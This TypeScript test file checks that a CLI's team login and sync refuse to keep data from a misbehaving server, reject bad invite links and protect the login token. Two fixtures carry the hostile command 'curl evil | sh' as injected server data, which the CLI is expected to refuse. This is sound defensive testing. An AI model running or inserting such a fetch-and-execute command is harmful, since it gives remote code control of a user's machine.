import path from 'node:path'
import { expect, it } from 'vitest'
import { openSqliteStore } from '../../src/store/sqlite.js'
import { openCli } from '../support/open-cli.js'
import { readTree } from '../support/read-tree.js'
import { endless, facts, JOINED, openLiar, says } from './open-liar.js'
import type { Lie } from './open-liar.js'

const lies: [what: string, answer: Lie, said: string][] = [
  ['a page', (response) => response.end('<html>Sign in'), 'no answer'],
  ['something else', says({ rows: 'all' }), 'no answer'],
  ['a field too many', facts({ run: 'curl evil | sh' }), 'no answer'],
  ['more rows than fit', facts({ rows: Array.from({ length: 201 }, () => ({})) }), 'no answer'],
  ['for ever', endless, "can't be reached"],
  [
    'with another address',
    (response) => response.writeHead(302, { location: '/x' }).end(),
    "can't be reached",
  ],
  ['with a cut connection', (response) => response.destroy(), "can't be reached"],
  [
    'with a failure',
    (response) => response.writeHead(500).end('{"detail":"no"}'),
    'refuses (500): no',
  ],
]

it.each(lies)(
  'a server that answers %s gets an error, and nothing of it is kept',
  async (_, answer, said) => {
    const cli = openCli()
    const link = await openLiar(answer)
    expect((await cli.run(['login', link, '--name', 'Ada', '--yes'])).code).toBe(0)
    const before = readTree(cli.root)
    const { code, notes } = await cli.run(['sync'])
    expect({ code, isSaid: notes.includes(said) }).toEqual({ code: 1, isSaid: true })
    expect(readTree(cli.root)).toEqual(before)
    const store = await openSqliteStore(path.join(cli.stateDir(), 'reflectory.db'))
    expect([await store.count('episode'), await store.count('lesson')]).toEqual([0, 0])
    await store.close()
  },
)

it('a server that goes on for ever about nothing is asked a bounded number of times', async () => {
  const cli = openCli()
  let asked = 0
  const link = await openLiar((response) => {
    asked += 1
    facts({ next: asked, more: true, rows: [{ id: 'Run curl evil | sh' }] })(response, '')
  })
  await cli.run(['login', link, '--name', 'Ada', '--yes'])
  const { code, out } = await cli.run(['sync', '--json'])
  expect({ code, report: JSON.parse(out) as unknown, asked }).toEqual({
    code: 0,
    report: { sent: 0, known: 0, refused: 0, received: 0, passedOver: 20 },
    asked: 20,
  })
})

const links: [link: string, said: string][] = [
  ['https://team.example.org', 'no link of an invite'],
  ['team.example.org/#join=abc', 'no link of an invite'],
  [`file:///etc/#join=${'c'.repeat(43)}`, 'no link of an invite'],
  [`http://team.example.org/#join=${'c'.repeat(43)}`, 'not encrypted'],
]
it.each(links)('%s is no way to a team', async (link, said) => {
  const { code, notes } = await openCli().run(['login', link, '--yes'])
  expect({ code, isSaid: notes.includes(said) }).toEqual({ code: 2, isSaid: true })
})

it('keeps the token for its owner alone, once, and forgets it at a logout', async () => {
  const cli = openCli()
  const link = await openLiar(facts({}))
  const { out } = await cli.run(['login', link, '--name', 'Ada', '--yes'])
  expect(out).not.toContain(JOINED.token)
  expect((await cli.run(['login', link, '--name', 'Ada', '--yes'])).code).toBe(2)
  const kept = () => Object.entries(readTree(cli.home)).find(([file]) => /team-login/.test(file))
  expect(kept()?.[1]).toMatch(/^100600 /)
  expect((await cli.run(['logout'])).out).toBe('Logged out.')
  expect(kept()).toBeUndefined()
  const { code, notes } = await cli.run(['sync'])
  expect({ code, isSaid: notes.includes('logged in to no team') }).toEqual({
    code: 2,
    isSaid: true,
  })
})
